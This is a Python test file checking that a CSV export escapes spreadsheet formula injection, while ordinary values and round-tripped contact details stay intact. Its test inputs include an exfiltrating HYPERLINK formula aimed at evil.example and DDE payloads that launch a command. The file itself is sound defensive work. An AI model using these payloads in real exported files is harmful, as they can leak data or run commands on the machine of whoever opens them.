"""Results as CSV: no cell is executed, and no cell loses its content."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from functions.scan_processor_v2.reading.table import csv_records
from functions.scan_processor_v2.scoring.rules import rule_items
from local.commands.export import COLUMNS, cell, csv_export

RUNNING = ("=", "+", "-", "@", "\t", "\r", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+639171234567",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "\0=1+1",
    ],
)
def test_fault_20_exported_cells_cannot_run(value: str) -> None:
    """A spreadsheet shows the text after an apostrophe, wherever the formula would start (fault 20)."""
    assert cell(value).startswith("'")


@pytest.mark.parametrize(
    "value", ["Ana Cruz", "0917 123 4567", "a=b", "x+y", "ana@gmail.com", "", "'quoted'", "ñ", "50"]
)
def test_a_cell_that_is_no_formula_stays_as_it_is(value: str) -> None:
    """Only cells that would be executed are changed."""
    assert cell(value) == value


def test_rows_have_all_columns_and_lists_are_put_in_one_cell() -> None:
    """Each value of the metadata has its own column; a missing value is empty."""
    item = {
        "name": "Ana Cruz",
        "score": 80,
        "content": 'said "ok"; =1+1,\nthen left',
        "metadata": {"bucket": "hot", "phone": "+639171234567", "pain_points": ["utang", "hirap"]},
    }
    header, row = csv.reader(io.StringIO(csv_export([item])))
    assert tuple(header) == COLUMNS
    assert {column: value for column, value in zip(COLUMNS, row, strict=True) if value} == {
        "name": "Ana Cruz",
        "score": "80",
        "content": 'said "ok"; =1+1,\nthen left',
        "bucket": "hot",
        "phone": "'+639171234567",
        "pain_points": "utang; hirap",
    }


@given(st.lists(st.fixed_dictionaries({"name": st.text(), "content": st.text()}), max_size=5))
def test_no_exported_cell_runs_and_none_is_lost(items: list[dict[str, str]]) -> None:
    """Every row and cell of any text is in the file, and none starts like a formula."""
    rows = list(csv.reader(io.StringIO(csv_export(items), newline="")))
    assert [len(row) for row in rows] == [len(COLUMNS)] * (len(items) + 1)
    for item, row in zip(items, rows[1:], strict=True):
        for value in row:
            assert not value.startswith(RUNNING)
            assert not value.strip().startswith(RUNNING)
        for column, name in ((0, "name"), (COLUMNS.index("content"), "content")):
            assert row[column].removeprefix("'") == item[name].replace("\0", "").removeprefix("'")


def test_what_was_exported_can_be_scanned_again() -> None:
    """The apostrophe before a number does not lose the number."""
    item = {"name": "Ana Cruz", "metadata": {"phone": "+639171234567", "email": "ana@gmail.com"}}
    (again,) = rule_items(csv_records(csv_export([item]).encode()))
    assert (again.name, again.phone, again.email) == ("Ana Cruz", "+639171234567", "ana@gmail.com")
